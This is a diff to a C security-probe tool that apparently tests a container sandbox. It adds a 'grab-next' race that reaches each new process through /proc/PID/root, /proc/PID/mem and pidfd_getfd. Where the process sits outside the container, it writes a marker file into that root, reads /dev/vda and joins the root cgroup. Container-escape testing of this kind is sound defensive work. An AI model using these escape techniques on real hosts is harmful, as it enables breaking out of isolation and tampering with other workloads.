@@ -13,6 +13,9 @@
  *   sysprobe reconfigure PATH   makes the proc filesystem mounted at PATH
  *                               (e.g. a sibling's /proc/PID/root/proc)
  *                               show PIDs only: fspick + fsconfig
+ *   sysprobe grab-next          open the pod's next PIDs' roots, mem and fds
+ *                               until SIGTERM (check-vm's grab race: see
+ *                               grab_next)
  *   sysprobe seize-next         PTRACE_SEIZE the pod's next PIDs until
  *                               SIGTERM (check-vm's seize race: see
  *                               seize_next)
@@ -22,6 +25,8 @@
 #include <fcntl.h>
 #include <stdlib.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
 #include <pthread.h>
 #include <sched.h>
 #include <signal.h>
@@ -268,12 +273,172 @@ static int seize_next(void)
 	return 0;
 }
 
+/*
+ * check-vm's grab race: each new process of the pod, from its birth, is
+ * looked at the ways a container granted CAP_SYS_PTRACE may besides
+ * attaching (which guest-init's tracing blocks): /proc/PID/root,
+ * /proc/PID/mem, its fds through pidfd_getfd, its capabilities and
+ * cgroup. One outside this container's root is "grabbed" (and written
+ * into, its /dev/vda read, its root cgroup joined: what the first one
+ * found in review could do); one in it, "grabbed" still when it holds
+ * more capabilities than this container or an fd of guest-init's, else
+ * "as its container". Ends on SIGTERM
+ * with "grab: tries N, grabbed G, late L, other O".
+ */
+static int grab_next(void)
+{
+	struct stat own, st;
+	long next, tries = 0, grabbed = 0, late = 0, other = 0;
+	char path[64], caps[32], link[256], fdp[64], names[512], fds[2048], own_caps[32], own_cg[128];
+	int fd, pidfd, k, g, w, mem;
+
+	signal(SIGTERM, on_term);
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	stat("/", &own);
+	status_field(getpid(), "CapEff:", own_caps, sizeof(own_caps));
+	fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
+	w = fd >= 0 ? (int)read(fd, own_cg, sizeof(own_cg) - 1) : -1;
+	own_cg[w > 0 ? w : 0] = 0;
+	if (fd >= 0)
+		close(fd);
+	next = last_pid() + 1;
+	while (!seize_stop) {
+		tries++;
+		snprintf(path, sizeof(path), "/proc/%ld/root", next);
+		fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
+		if (fd < 0) {
+			if (errno == ENOENT) {
+				if ((tries & 15) == 0) {
+					long l = last_pid();
+					if (l > next)
+						next = l;
+				}
+			} else {
+				if (other++ < 5)
+					printf("pid %ld root: %s\n", next, strerror(errno));
+				next++;
+			}
+			continue;
+		}
+		if (fstat(fd, &st) == 0 && st.st_dev == own.st_dev && st.st_ino == own.st_ino) {
+			/* In this container's root already: it may still hold
+			 * more than the container (capabilities, guest-init's
+			 * fds, its cgroup). */
+			char cg[128];
+
+			close(fd);
+			status_field(next, "CapEff:", caps, sizeof(caps));
+			snprintf(path, sizeof(path), "/proc/%ld/cgroup", next);
+			g = open(path, O_RDONLY | O_CLOEXEC);
+			w = g >= 0 ? (int)read(g, cg, sizeof(cg) - 1) : -1;
+			cg[w > 0 ? w : 0] = 0;
+			if (g >= 0)
+				close(g);
+			fds[0] = 0;
+			pidfd = syscall(434, (int)next, 0);
+			for (k = 0; pidfd >= 0 && k < 48; k++) {
+				g = syscall(438, pidfd, k, 0);
+				if (g < 0)
+					continue;
+				snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", g);
+				w = readlink(fdp, link, sizeof(link) - 1);
+				link[w > 0 ? w : 0] = 0;
+				snprintf(fds + strlen(fds), sizeof(fds) - strlen(fds), " %d=%s", k, link);
+				close(g);
+			}
+			if (pidfd >= 0)
+				close(pidfd);
+			/* Its cgroup is printed, not judged: guest-init moves it
+			 * into the container's while it waits in the tracing stop
+			 * it is born in, before its first instruction. */
+			if ((caps[0] && strtoull(caps, NULL, 16) & ~strtoull(own_caps, NULL, 16)) ||
+			    strstr(fds, "vport") || strstr(fds, "signalfd") ||
+			    strstr(fds, "pid:[") || strstr(fds, "mnt:[") || strstr(fds, "cgroup.procs") ||
+			    strstr(fds, "event0")) {
+				printf("grabbed %ld (in its container's root) CapEff %s cgroup %s its fds:%s\n", next,
+				       caps[0] ? caps : "-", cg, fds);
+				grabbed++;
+			} else {
+				if (late++ < 3)
+					printf("as its container: %ld CapEff %s cgroup %s fds:%s\n", next,
+					       caps[0] ? caps : "-", strcmp(cg, own_cg) == 0 ? "its container's" : cg, fds);
+			}
+			next++;
+			continue;
+		}
+		status_field(next, "CapEff:", caps, sizeof(caps));
+		snprintf(path, sizeof(path), "/proc/%ld/mem", next);
+		mem = open(path, O_RDWR | O_CLOEXEC);
+		fds[0] = 0;
+		pidfd = syscall(434, (int)next, 0);
+		for (k = 0; pidfd >= 0 && k < 48; k++) {
+			g = syscall(438, pidfd, k, 0);
+			if (g < 0)
+				continue;
+			snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", g);
+			w = readlink(fdp, link, sizeof(link) - 1);
+			link[w > 0 ? w : 0] = 0;
+			snprintf(fds + strlen(fds), sizeof(fds) - strlen(fds), " %d=%s", k, link);
+			close(g);
+		}
+		if (pidfd >= 0)
+			close(pidfd);
+		w = openat(fd, "peapod-review-escape", O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
+		if (w >= 0) {
+			dprintf(w, "written by a container through /proc/%ld/root\n", next);
+			close(w);
+		}
+		names[0] = 0;
+		g = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+		if (g >= 0) {
+			DIR *d = fdopendir(g);
+			struct dirent *e;
+
+			while (d && (e = readdir(d)) != NULL)
+				snprintf(names + strlen(names), sizeof(names) - strlen(names), " %s", e->d_name);
+			if (d)
+				closedir(d);
+		}
+		if (grabbed == 0) {
+			char blk[64] = "", cgl[128] = "";
+			int b = openat(fd, "dev/vda", O_RDONLY | O_CLOEXEC), c;
+			ssize_t nb = b >= 0 ? read(b, blk, 16) : -1;
+
+			printf("dev/vda through its root: %s (%zd bytes read)\n", b >= 0 ? "opened" : strerror(errno), nb);
+			c = openat(fd, "sys/fs/cgroup/cgroup.procs", O_WRONLY | O_CLOEXEC);
+			if (c >= 0 && dprintf(c, "%d\n", (int)getpid()) > 0) {
+				int r = open("/proc/self/cgroup", O_RDONLY);
+				ssize_t nr = r >= 0 ? read(r, cgl, sizeof(cgl) - 1) : -1;
+				cgl[nr > 0 ? nr : 0] = 0;
+				printf("moved itself to the root cgroup: /proc/self/cgroup says %s", cgl);
+			} else {
+				printf("root cgroup.procs: %s\n", strerror(errno));
+			}
+			if (b >= 0)
+				close(b);
+			if (c >= 0)
+				close(c);
+		}
+		printf("grabbed %ld CapEff %s mem-rw %s write-in-its-root %s; its root:%s; its fds:%s\n", next,
+		       caps[0] ? caps : "-", mem >= 0 ? "yes" : strerror(errno), w >= 0 ? "yes" : "no", names, fds);
+		if (mem >= 0)
+			close(mem);
+		close(fd);
+		grabbed++;
+		next++;
+	}
+	printf("grab: tries %ld, grabbed %ld, late %ld, other %ld\n", tries, grabbed, late, other);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	int i;
 
 	if (argc == 2 && strcmp(argv[1], "zombie-leader") == 0)
 		return zombie_leader();
+	if (argc == 2 && strcmp(argv[1], "grab-next") == 0)
+		return grab_next();
 	if (argc == 2 && strcmp(argv[1], "seize-next") == 0)
 		return seize_next();
 	if (argc == 3 && strcmp(argv[1], "reconfigure") == 0)
